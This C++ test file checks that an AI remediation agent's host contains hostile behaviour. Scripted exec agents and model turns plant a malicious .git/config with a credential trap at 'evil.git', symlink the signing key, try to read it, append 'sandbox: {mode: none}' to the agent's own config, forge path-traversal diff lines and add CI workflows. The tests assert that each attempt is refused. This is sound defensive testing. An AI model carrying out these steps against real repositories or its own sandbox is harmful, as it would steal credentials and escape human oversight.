// Containment through the real binary, against an attacker who controls the
// agent (a hostile exec command, a hostile model) and the signals: git
// metadata written into the worktree steers nothing the host does, and the
// minted push credential goes only to the configured remote; a change may
// touch only the files policy allows (never CI definitions); a forged diff
// line removes nothing outside the worktree; task ids cannot name
// directories of the state home.
#include "support/fixtures.hpp"
#include "support/git_http.hpp"
#include "support/model_server.hpp"
#include "support/run.hpp"

#include <gtest/gtest.h>
#include <httplib.h>
#include <nlohmann/json.hpp>

#include <filesystem>
#include <mutex>
#include <thread>

namespace infra {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using test::run_cli;

const char* k_main_tf = "resource \"aws_s3_bucket_versioning\" \"logs\" {\n  bucket = \"acme-logs\"\n"
                        "  versioning_configuration {\n    status = \"Disabled\"\n  }\n}\n";
const char* k_fixed_tf = "resource \"aws_s3_bucket_versioning\" \"logs\" {\n  bucket = \"acme-logs\"\n"
                         "  versioning_configuration {\n    status = \"Enabled\"\n  }\n}\n";

/// A git server on loopback that wants credentials and never takes them:
/// it answers 401 to everything and keeps every Authorization it was sent.
class CredentialTrap {
public:
    CredentialTrap()
    {
        m_server.Get(".*", [this](const httplib::Request& req, httplib::Response& res) { take(req, res); });
        m_server.Post(".*", [this](const httplib::Request& req, httplib::Response& res) { take(req, res); });
        m_port = m_server.bind_to_any_port("127.0.0.1");
        m_thread = std::thread([this] { m_server.listen_after_bind(); });
    }
    ~CredentialTrap()
    {
        m_server.stop();
        m_thread.join();
    }
    std::string url() const { return "http://127.0.0.1:" + std::to_string(m_port) + "/evil.git"; }
    int requests() const
    {
        std::lock_guard lock(m_mutex);
        return m_requests;
    }
    std::vector<std::string> credentials() const
    {
        std::lock_guard lock(m_mutex);
        return m_credentials;
    }

private:
    void take(const httplib::Request& req, httplib::Response& res)
    {
        std::lock_guard lock(m_mutex);
        ++m_requests;
        if (req.has_header("Authorization")) m_credentials.push_back(req.get_header_value("Authorization"));
        res.status = 401;
        res.set_header("WWW-Authenticate", "Basic realm=\"git\"");
    }
    httplib::Server m_server;
    int m_port = 0;
    std::thread m_thread;
    mutable std::mutex m_mutex;
    int m_requests = 0;
    std::vector<std::string> m_credentials;
};

class ContainmentCli : public ::testing::Test {
protected:
    void SetUp() override
    {
        fs::create_directories(dir / "remote");
        test::git(dir.path(), "init -q seed");
        test::write_file(dir / "seed/main.tf", k_main_tf);
        test::git(dir / "seed", "add -A");
        test::git(dir / "seed", "commit -q -m initial");
        test::git(dir / "remote", "clone -q --bare ../seed acme.git");
        opts.cwd = dir.path().string();
        opts.env["INFRA_AGENT_HOME"] = home().string();
        opts.env["TEST_LLM_KEY"] = "sk-test";
        ASSERT_EQ(run_cli({"init"}, opts).exit_code, 0);
        // The key that signs every local credential: what an attacker wants pushed.
        ASSERT_EQ(run_cli({"creds", "mint", "git:fetch:repo=acme/infra", "--task", "warmup"}, opts).exit_code, 0);
        ASSERT_TRUE(fs::exists(home() / "keys/local-creds.key"));
    }
    fs::path home() const { return dir / "home"; }

    /// config.yaml: the exec agent runs script; validation greps for the fix.
    void configure(const std::string& script, const std::string& extra = "")
    {
        json command = json::array({"sh", "-c", script});
        test::write_file(home() / "config.yaml", "exec:\n  command: " + command.dump() + "\n" +
                                                     "validation:\n  steps:\n    - name: versioning enabled\n      "
                                                     "run: [grep, -q, Enabled, \"{dir}/main.tf\"]\n" +
                                                     extra);
    }

    void enqueue(const std::string& id, const std::string& agent)
    {
        json task = {{"id", id},
                     {"type", "compliance-remediation"},
                     {"title", "enable versioning"},
                     {"trigger", {{"source", "api"}, {"provider", "test"}, {"timestamp", "2026-12-06T12:00:00Z"}}},
                     {"context", {{"agentSlug", agent}, {"environment", "staging"}, {"repositoryId", "acme/infra"}}},
                     {"payload",
                      {{"finding",
                        {{"canonicalRuleId", "CKV_AWS_21"},
                         {"file", "main.tf"},
                         {"resource", "aws_s3_bucket_versioning.logs"}}}}},
                     {"dedupeKey", "containment-" + id}};
        auto o = opts;
        o.stdin_data = task.dump() + "\n";
        auto q = run_cli({"enqueue"}, o);
        ASSERT_EQ(q.exit_code, 0) << q.err;
    }

    test::RunResult work(const std::string& url)
    {
        return run_cli({"worker", "--drain", "--json", "--repo", url, "--sandbox", "bwrap"}, opts);
    }

    json show(const std::string& id)
    {
        auto r = run_cli({"queue", "show", id, "--json"}, opts);
        EXPECT_EQ(r.exit_code, 0) << r.err;
        return json::parse(r.out, nullptr, false);
    }

    /// Every path in every commit of the bare remote.
    std::string pushed_paths() { return test::git(dir / "remote/acme.git", "log --all --name-only --format="); }

    test::TempDir dir;
    test::RunOptions opts;
};

/// A remote that takes any credential, counting pushes.
std::unique_ptr<test::GitHttpServer> open_remote(const fs::path& root)
{
    return std::make_unique<test::GitHttpServer>(root, [](const std::string&, const std::string& password,
                                                          const std::string&, bool) { return !password.empty(); });
}

std::string hostile_git_config(const std::string& evil_url, const fs::path& marker)
{
    return "[core]\n\tworktree = ../../../keys\n[remote \"origin\"]\n\turl = " + evil_url +
           "\n\tpushurl = " + evil_url +
           "\n[include]\n\tpath = ../../../config.yaml\n[filter \"evil\"]\n\tclean = touch " + marker.string() +
           "\n\tsmudge = touch " + marker.string() + "\n[credential]\n\thelper = !touch " + marker.string() + "\n";
}

TEST_F(ContainmentCli, AnExecAgentsGitConfigSteersNeitherTheCommitNorThePush)
{
    CredentialTrap trap;
    auto remote = open_remote(dir / "remote");
    // The fix, and a .git of its own making in the worktree: core.worktree
    // at the state home's keys, origin at the trap, an include, a filter and
    // a credential helper; then the same as a gitdir file one level down.
    std::string config = hostile_git_config(trap.url(), dir / "pwned");
    configure("sed -i s/Disabled/Enabled/ main.tf && mkdir -p .git && cat > .git/config <<'EOF'\n" + config +
              "EOF\nprintf 'ref: refs/heads/main\\n' > .git/HEAD && echo fixed");
    enqueue("01CONTAINEXEC0000000000001", "exec");
    auto w = work(remote->url() + "acme.git");
    ASSERT_EQ(w.exit_code, 0) << w.err;
    auto task = show("01CONTAINEXEC0000000000001");
    EXPECT_EQ(task["state"], "succeeded") << task.dump();
    EXPECT_EQ(remote->pushes(), 1);

    // The bot branch holds the fix and nothing else: no keys, no .git.
    std::string branch = task["result"]["change"]["branch"];
    EXPECT_EQ(test::git(dir / "remote/acme.git", "show " + branch + ":main.tf"), k_fixed_tf);
    EXPECT_EQ(test::git(dir / "remote/acme.git", "ls-tree -r --name-only " + branch), "main.tf\n");
    EXPECT_EQ(pushed_paths().find("local-creds"), std::string::npos) << pushed_paths();
    // The trap never heard from the host, and nothing ran on its say-so.
    EXPECT_EQ(trap.requests(), 0);
    EXPECT_TRUE(trap.credentials().empty());
    EXPECT_FALSE(fs::exists(dir / "pwned"));
}

TEST_F(ContainmentCli, AModelsWriteToGitMetadataIsRefusedAndAudited)
{
    CredentialTrap trap;
    auto remote = open_remote(dir / "remote");
    test::ModelServer model;
    std::string config = hostile_git_config(trap.url(), dir / "pwned");
    std::vector<test::Turn> turns = {
        test::Turn{{{"write_file", {{"path", ".git/config"}, {"content", config}}},
                    {"write_file", {{"path", "sub/../.git/config"}, {"content", config}}},
                    {"read_file", {{"path", ".git/config"}}}}},
        test::Turn{{{"write_file", {{"path", "main.tf"}, {"content", k_fixed_tf}}}}},
        test::Turn{{{"finish", {{"summary", "Enabled versioning"}}}}},
    };
    model.script(turns);
    configure("true", "llm:\n  provider: openai\n  base_url: " + model.openai_url() +
                          "\n  model: test-model\n  api_key_env: TEST_LLM_KEY\n");
    enqueue("01CONTAINLLM00000000000001", "llm");
    auto w = work(remote->url() + "acme.git");
    ASSERT_EQ(w.exit_code, 0) << w.err;
    auto task = show("01CONTAINLLM00000000000001");
    EXPECT_EQ(task["state"], "succeeded") << task.dump();
    EXPECT_EQ(remote->pushes(), 1);
    EXPECT_EQ(trap.requests(), 0);
    EXPECT_FALSE(fs::exists(dir / "pwned"));

    auto ev = run_cli({"events", "--task", "01CONTAINLLM00000000000001", "--json"}, opts);
    ASSERT_EQ(ev.exit_code, 0) << ev.err;
    int refused = 0;
    for (const auto& e : test::json_lines(ev.out))
        if (e.value("event", "") == "task.tool-refused") ++refused;
    EXPECT_EQ(refused, 3) << ev.out;
}

TEST_F(ContainmentCli, AFilterDriverInGitattributesRunsNothing)
{
    auto remote = open_remote(dir / "remote");
    // Policy names .gitattributes, so the change goes through: the filter it
    // names is still no program the host runs.
    test::write_file(
        home() / "policies/paths.yaml",
        "apiVersion: infra-agent/v1\nkind: Policy\nmetadata: {name: repo-paths, level: repository}\nrules:\n"
        "  - name: attributes-too\n    match: {type: compliance-remediation}\n"
        "    constraints: {allowedPaths: [\"*.tf\", .gitattributes]}\n");
    std::string config = hostile_git_config("http://127.0.0.1:9/evil.git", dir / "pwned");
    configure("sed -i s/Disabled/Enabled/ main.tf && printf '*.tf filter=evil\\n' > .gitattributes && mkdir -p .git && "
              "cat > .git/config <<'EOF'\n" +
              config + "EOF\necho fixed");
    enqueue("01CONTAINATTR0000000000001", "exec");
    auto w = work(remote->url() + "acme.git");
    ASSERT_EQ(w.exit_code, 0) << w.err;
    auto task = show("01CONTAINATTR0000000000001");
    EXPECT_EQ(task["state"], "succeeded") << task.dump();
    std::string branch = task["result"]["change"]["branch"];
    EXPECT_EQ(test::git(dir / "remote/acme.git", "ls-tree -r --name-only " + branch), ".gitattributes\nmain.tf\n");
    EXPECT_EQ(test::git(dir / "remote/acme.git", "show " + branch + ":main.tf"), k_fixed_tf);
    EXPECT_FALSE(fs::exists(dir / "pwned"));
}

TEST_F(ContainmentCli, AChangeToCiDefinitionsIsRefusedUnlessPolicyNamesThem)
{
    auto remote = open_remote(dir / "remote");
    configure(
        "sed -i s/Disabled/Enabled/ main.tf && mkdir -p .github/workflows && "
        "printf 'on: push\\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: env}]}}\\n' > .github/workflows/ci.yml && "
        "printf 'stages: [x]\\n' > .gitlab-ci.yml && echo fixed");
    enqueue("01CONTAINCI000000000000001", "exec");
    auto w = work(remote->url() + "acme.git");
    auto task = show("01CONTAINCI000000000000001");
    EXPECT_NE(task["state"], "succeeded") << task.dump();
    std::string error = task.dump();
    EXPECT_NE(error.find(".github/workflows/ci.yml"), std::string::npos) << error;
    EXPECT_NE(error.find("never change"), std::string::npos) << error;
    EXPECT_EQ(remote->pushes(), 0);

    auto ev = run_cli({"events", "--task", "01CONTAINCI000000000000001", "--json"}, opts);
    EXPECT_NE(ev.out.find("change.refused"), std::string::npos) << ev.out;

    // A file outside the Terraform files of the finding's root is refused too.
    configure("sed -i s/Disabled/Enabled/ main.tf && printf '#!/bin/sh\\n' > deploy.sh && echo fixed");
    enqueue("01CONTAINCI000000000000002", "exec");
    work(remote->url() + "acme.git");
    auto other = show("01CONTAINCI000000000000002");
    EXPECT_NE(other["state"], "succeeded");
    EXPECT_NE(other.dump().find("deploy.sh"), std::string::npos) << other.dump();
    EXPECT_EQ(remote->pushes(), 0);
}

TEST_F(ContainmentCli, AForgedDiffLineRemovesNothingOutsideTheWorktree)
{
    auto remote = open_remote(dir / "remote");
    // <home>/worktrees/<task>-1/../../../victim is dir/victim.
    test::write_file(dir / "victim/.terraform/providers/keep", "keep");
    test::write_file(dir / "victim/main.tf", "keep");
    configure(
        "sed -i s/Disabled/Enabled/ main.tf && printf 'locals {\\n  note = <<EOT\\n++ b/../../../victim/main.tf\\n"
        "++ b/../../../home/x.tf\\nEOT\\n}\\n' >> main.tf && echo fixed");
    enqueue("01CONTAINDIFF0000000000001", "exec");
    auto w = work(remote->url() + "acme.git");
    ASSERT_EQ(w.exit_code, 0) << w.err;
    auto task = show("01CONTAINDIFF0000000000001");
    EXPECT_EQ(task["state"], "succeeded") << task.dump();
    EXPECT_TRUE(fs::exists(dir / "victim/.terraform/providers/keep"));
    EXPECT_TRUE(fs::exists(home() / "state.db"));
}

// Links that lead out of the worktree are never committed, whichever agent
// made them and wherever they hide (a directory named .infra-agent was once
// not looked into).
TEST_F(ContainmentCli, LinksThatLeadOutAreRefusedFromEveryAgent)
{
    auto remote = open_remote(dir / "remote");
    configure("sed -i s/Disabled/Enabled/ main.tf && mkdir -p d/.infra-agent && "
              "ln -s " +
              (home() / "keys/local-creds.key").string() + " d/.infra-agent/creds.tf && echo fixed");
    enqueue("01CONTAINLINK0000000000001", "exec");
    work(remote->url() + "acme.git");
    auto task = show("01CONTAINLINK0000000000001");
    EXPECT_NE(task["state"], "succeeded") << task.dump();
    EXPECT_NE(task.dump().find("d/.infra-agent/creds.tf"), std::string::npos) << task.dump();

    test::ModelServer model;
    model.script({test::Turn{{{"run_command", {{"argv", {"ln", "-s", "../../keys/local-creds.key", "creds.tf"}}}}}},
                  test::Turn{{{"write_file", {{"path", "main.tf"}, {"content", k_fixed_tf}}}}},
                  test::Turn{{{"finish", {{"summary", "Enabled versioning"}}}}}});
    configure("true", "llm:\n  provider: openai\n  base_url: " + model.openai_url() +
                          "\n  model: test-model\n  api_key_env: TEST_LLM_KEY\n");
    enqueue("01CONTAINLINK0000000000002", "llm");
    work(remote->url() + "acme.git");
    task = show("01CONTAINLINK0000000000002");
    EXPECT_NE(task["state"], "succeeded") << task.dump();
    EXPECT_NE(task.dump().find("creds.tf -> ../../keys/local-creds.key"), std::string::npos) << task.dump();
    EXPECT_EQ(remote->pushes(), 0);
}

/// A person's checkout with the state home init makes at its top.
struct CheckoutWithHome {
    fs::path top;
    test::RunOptions opts;
    std::string key, config;
};

/// A task for run in such a checkout.
std::string home_task(const std::string& id, const std::string& agent)
{
    json task = {{"id", id},
                 {"type", "compliance-remediation"},
                 {"title", "enable versioning"},
                 {"trigger", {{"source", "api"}, {"provider", "test"}, {"timestamp", "2026-12-06T12:00:00Z"}}},
                 {"context", {{"agentSlug", agent}, {"environment", "staging"}, {"repositoryId", "acme/infra"}}},
                 {"payload", json::object()},
                 {"dedupeKey", "containment-" + id}};
    return task.dump() + "\n";
}

CheckoutWithHome checkout_with_home(const fs::path& top)
{
    CheckoutWithHome c{top, {}, "", ""};
    test::git(top.parent_path(), "init -q " + top.filename().string());
    test::write_file(top / "main.tf", k_main_tf);
    test::git(top, "add -A");
    test::git(top, "commit -q -m initial");
    c.opts.cwd = top.string();
    c.opts.env["INFRA_AGENT_HOME"] = std::nullopt;
    c.opts.env["TEST_LLM_KEY"] = "sk-test";
    EXPECT_EQ(run_cli({"init"}, c.opts).exit_code, 0);
    EXPECT_EQ(run_cli({"creds", "mint", "git:fetch:repo=acme/infra", "--task", "warmup"}, c.opts).exit_code, 0);
    c.key = test::read_file(top / ".infra-agent/keys/local-creds.key");
    return c;
}

// `init` and `remediate` keep the state in .infra-agent/ at a checkout's top,
// and `run --workspace .` lets the agent edit that checkout: the home's
// signing key, configuration and policies must stay out of its reach.
TEST_F(ContainmentCli, AnAgentInAPersonsCheckoutCannotReachTheStateHome)
{
    auto c = checkout_with_home(dir / "checkout");
    fs::path home = c.top / ".infra-agent";
    json command =
        json::array({"sh", "-c",
                     "cat .infra-agent/keys/local-creds.key; echo 'sandbox: {mode: none}' >> .infra-agent/config.yaml; "
                     "echo 'pwned: true' > .infra-agent/policies/allow.yaml; echo done"});
    test::write_file(home / "config.yaml", "exec:\n  command: " + command.dump() + "\n");
    c.config = test::read_file(home / "config.yaml");
    c.opts.stdin_data = home_task("01CONTAINHOME0000000000001", "exec");
    auto r = run_cli({"run", "--workspace", ".", "--json", "--sandbox", "bwrap"}, c.opts);
    EXPECT_EQ(r.out.find(c.key.substr(0, 16)), std::string::npos) << r.out;
    EXPECT_EQ(test::read_file(home / "config.yaml"), c.config);
    EXPECT_FALSE(fs::exists(home / "policies/allow.yaml"));

    // A model's tools refuse the home as they refuse git metadata.
    test::ModelServer model;
    model.script({test::Turn{{{"read_file", {{"path", ".infra-agent/keys/local-creds.key"}}},
                              {"write_file", {{"path", ".infra-agent/policies/allow.yaml"}, {"content", "x"}}},
                              {"write_file", {{"path", "./.infra-agent/config.yaml"}, {"content", "x"}}}}},
                  test::Turn{{{"run_command", {{"argv", {"cat", ".infra-agent/keys/local-creds.key"}}}}}},
                  test::Turn{{{"finish", {{"summary", "done"}}}}}});
    test::write_file(home / "config.yaml", "llm:\n  provider: openai\n  base_url: " + model.openai_url() +
                                               "\n  model: test-model\n  api_key_env: TEST_LLM_KEY\n");
    c.config = test::read_file(home / "config.yaml");
    c.opts.stdin_data = home_task("01CONTAINHOME0000000000002", "llm");
    auto l = run_cli({"run", "--workspace", ".", "--json", "--sandbox", "bwrap"}, c.opts);
    EXPECT_EQ(l.exit_code, 0) << l.err;
    EXPECT_EQ(test::read_file(home / "config.yaml"), c.config);
    EXPECT_FALSE(fs::exists(home / "policies/allow.yaml"));
    std::string seen;
    for (const auto& req : model.received())
        for (const auto& [role, text] : test::request_texts(req.body)) seen += text + "\n";
    EXPECT_EQ(seen.find(c.key.substr(0, 16)), std::string::npos) << seen;
    EXPECT_NE(seen.find("state home"), std::string::npos) << seen;

    // A state home elsewhere in the workspace cannot be hidden: run and
    // worker refuse to let an agent work there.
    auto o = c.opts;
    o.env["INFRA_AGENT_HOME"] = (c.top / "state").string();
    ASSERT_EQ(run_cli({"init"}, o).exit_code, 0);
    test::write_file(c.top / "state/config.yaml", "llm:\n  provider: openai\n  base_url: " + model.openai_url() +
                                                      "\n  model: test-model\n  api_key_env: TEST_LLM_KEY\n");
    for (const std::vector<std::string>& cmd : {std::vector<std::string>{"run", "--workspace", "."},
                                                {"worker", "--drain", "--workspace", "."},
                                                {"chat", "why is the bucket public?"}}) {
        auto refused = run_cli(cmd, o);
        EXPECT_EQ(refused.exit_code, 64) << cmd[0] << ": " << refused.err;
        EXPECT_NE(refused.err.find("lies inside the workspace"), std::string::npos) << refused.err;
    }
}

// A workspace below a checkout's top holds no .git: an agent could make a
// repository there whose origin a later pr open in that directory would push
// to, with a credential minted for the real repository.
TEST_F(ContainmentCli, ARepositoryAnAgentMakesInASubdirectoryIsRemoved)
{
    CredentialTrap trap;
    auto c = checkout_with_home(dir / "checkout");
    fs::create_directories(c.top / "infra");
    test::write_file(c.top / "infra/main.tf", k_main_tf);
    test::git(c.top, "add -A");
    test::git(c.top, "commit -q -m infra");
    // The exec agent runs script; validation passes whatever it finds.
    auto configure_exec = [&](const std::string& script) {
        json command = json::array({"sh", "-c", script});
        test::write_file(c.top / ".infra-agent/config.yaml",
                         "exec:\n  command: " + command.dump() +
                             "\nvalidation:\n  steps:\n    - name: ok\n      run: [\"true\"]\n");
    };
    configure_exec("git init -q . && git -c user.email=x@y -c user.name=x add -A && "
                   "git -c user.email=x@y -c user.name=x commit -qm base && git remote add origin " +
                   trap.url() + " && sed -i s/Disabled/Enabled/ main.tf && echo fixed");
    auto o = c.opts;
    o.cwd = (c.top / "infra").string();
    o.stdin_data = home_task("01CONTAINNEST0000000000001", "exec");
    auto r = run_cli({"run", "--workspace", ".", "--sandbox", "bwrap"}, o);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(test::read_file(c.top / "infra/main.tf"), k_fixed_tf);
    EXPECT_FALSE(fs::exists(c.top / "infra/.git"));
    run_cli({"pr", "open", "--workspace", ".", "--sandbox", "bwrap"}, o);
    EXPECT_EQ(trap.requests(), 0);
    EXPECT_TRUE(trap.credentials().empty());

    auto ev = run_cli({"events", "--task", "01CONTAINNEST0000000000001", "--json"}, c.opts);
    EXPECT_NE(ev.out.find("change.metadata-removed"), std::string::npos) << ev.out;

    // Nor may the workspace's own files make a repository: HEAD, objects and
    // a config whose core.worktree is the directory itself.
    configure_exec("git init -q --bare /tmp/bare && cp -r /tmp/bare/. . && printf '*\\n!main.tf\\n' > "
                   "info/exclude && git --git-dir=. --work-tree=. -c user.email=x@y -c user.name=x commit -qm base "
                   "--allow-empty && git --git-dir=. config core.bare false && git --git-dir=. config "
                   "core.worktree . && git --git-dir=. remote add origin " +
                   trap.url() + " && sed -i s/Enabled/Suspended/ main.tf && echo fixed");
    o.stdin_data = home_task("01CONTAINNEST0000000000002", "exec");
    r = run_cli({"run", "--workspace", ".", "--sandbox", "bwrap"}, o);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    auto pr = run_cli({"pr", "open", "--workspace", ".", "--sandbox", "bwrap"}, o);
    EXPECT_EQ(pr.exit_code, 65) << pr.err;
    EXPECT_NE(pr.err.find("not the top of a git checkout"), std::string::npos) << pr.err;
    EXPECT_EQ(trap.requests(), 0);
}

// validate installs providers and modules outside the sandbox, with this
// machine's network, from what the checkout has committed: a module source
// in an uncommitted change (an agent's, say) is never fetched there.
TEST_F(ContainmentCli, ValidateFetchesNothingAnUncommittedChangeNames)
{
    CredentialTrap trap;
    auto c = checkout_with_home(dir / "checkout");
    test::write_file(c.top / "main.tf", "resource \"terraform_data\" \"x\" {\n  input = \"v1\"\n}\n");
    test::git(c.top, "commit -q -am builtin");
    test::write_file(c.top / "main.tf", "resource \"terraform_data\" \"x\" {\n  input = \"v1\"\n}\n\nmodule \"m\" {\n  "
                                        "source = \"git::" +
                                            trap.url() + "\"\n}\n");
    auto r = run_cli({"validate", "--sandbox", "bwrap", "."}, c.opts);
    EXPECT_NE(r.exit_code, 0) << r.err;
    EXPECT_EQ(trap.requests(), 0) << r.err;
    EXPECT_EQ(test::git(c.top, "status --porcelain"), " M main.tf\n");  // nothing of the base left behind

    // Committed, it is the checkout's own: fetched as terraform init would.
    test::git(c.top, "commit -q -am module");
    run_cli({"validate", "--sandbox", "bwrap", "."}, c.opts);
    EXPECT_GT(trap.requests(), 0);
}

// What validation checked is what is committed: a command run during
// validation (here a step; a provider's program at plan time could do the
// same) that rewrites a file of the change stops the delivery.
TEST_F(ContainmentCli, AFileRewrittenDuringValidationIsNotCommitted)
{
    auto c = checkout_with_home(dir / "checkout");
    json fix = json::array({"sh", "-c", "sed -i s/Disabled/Enabled/ main.tf && echo fixed"});
    json rewrite = json::array({"sh", "-c", "echo '# not validated' >> main.tf"});
    test::write_file(c.top / ".infra-agent/config.yaml", "exec:\n  command: " + fix.dump() +
                                                             "\nvalidation:\n  steps:\n    - name: rewrite\n"
                                                             "      run: " +
                                                             rewrite.dump() + "\n");
    auto o = c.opts;
    o.stdin_data = home_task("01CONTAINREWRITE0000000001", "exec");
    auto r = run_cli({"run", "--workspace", ".", "--sandbox", "bwrap"}, o);
    ASSERT_EQ(r.exit_code, 0) << r.err;
    auto pr = run_cli({"pr", "open", "--workspace", ".", "--sandbox", "bwrap"}, o);
    EXPECT_NE(pr.exit_code, 0) << pr.out;
    EXPECT_NE(pr.err.find("the files of the change changed during validation"), std::string::npos) << pr.err;
    EXPECT_EQ(test::git(c.top, "branch --list 'infra-agent/*'"), "");
}

// A named pipe where a file should be: the host opens workspace files for
// the model's tools and for the diff, and must not wait on a pipe forever.
TEST_F(ContainmentCli, APipeInTheWorkspaceHangsNoTool)
{
    fs::create_directories(dir / "ws");
    test::write_file(dir / "ws/main.tf", k_main_tf);
    test::ModelServer model;
    model.script({test::Turn{{{"write_file", {{"path", "pipe.tf"}, {"content", "locals {}\n"}}}}},
                  test::Turn{{{"run_command", {{"argv", {"sh", "-c", "rm pipe.tf && mkfifo pipe.tf"}}}}}},
                  test::Turn{{{"read_file", {{"path", "pipe.tf"}}}, {"search", {{"text", "bucket"}}}}},
                  test::Turn{{{"finish", {{"summary", "done"}}}}}});
    configure("true", "llm:\n  provider: openai\n  base_url: " + model.openai_url() +
                          "\n  model: test-model\n  api_key_env: TEST_LLM_KEY\n");
    auto o = opts;
    o.stdin_data = home_task("01CONTAINPIPE0000000000001", "llm");
    auto r = test::run_program(
        "/usr/bin/timeout",
        {"60", INFRA_AGENT_BIN, "run", "--workspace", (dir / "ws").string(), "--json", "--sandbox", "bwrap"}, o);
    ASSERT_NE(r.exit_code, 124) << "infra-agent waited on the pipe until it was killed";
    std::string seen;
    for (const auto& req : model.received())
        for (const auto& [role, text] : test::request_texts(req.body)) seen += text + "\n";
    EXPECT_NE(seen.find("not a regular file"), std::string::npos) << seen;
    EXPECT_NE(seen.find("aws_s3_bucket_versioning"), std::string::npos) << seen;  // search went on past the pipe
}

TEST_F(ContainmentCli, TaskIdsCannotNameDirectories)
{
    for (const std::string& id :
         std::vector<std::string>{".", "..", "a/b", "a.b", "../x", std::string(300, 'a'), "a b", "ab\xc3\xa9"}) {
        json task = {{"id", id},
                     {"type", "compliance-remediation"},
                     {"trigger", {{"source", "api"}, {"provider", "test"}, {"timestamp", "2026-12-06T12:00:00Z"}}},
                     {"context", {{"agentSlug", "builtin"}, {"repositoryId", "acme/infra"}}},
                     {"payload", json::object()},
                     {"dedupeKey", "ids-test"}};
        auto o = opts;
        o.stdin_data = task.dump() + "\n";
        for (const std::vector<std::string>& cmd : {std::vector<std::string>{"enqueue"}, {"ingest", "api"}}) {
            auto r = run_cli(cmd, o);
            EXPECT_EQ(r.exit_code, 65) << cmd[0] << " " << id << ": " << r.err;
            EXPECT_NE(r.err.find("id: expected 1 to 128 ASCII letters, digits, '-' or '_'"), std::string::npos)
                << r.err;
        }
    }
    auto ls = run_cli({"queue", "ls", "--json"}, opts);
    EXPECT_EQ(test::json_lines(ls.out).size(), 0u) << ls.out;
    EXPECT_TRUE(fs::exists(home() / "state.db"));
}

}  // namespace
}  // namespace infra
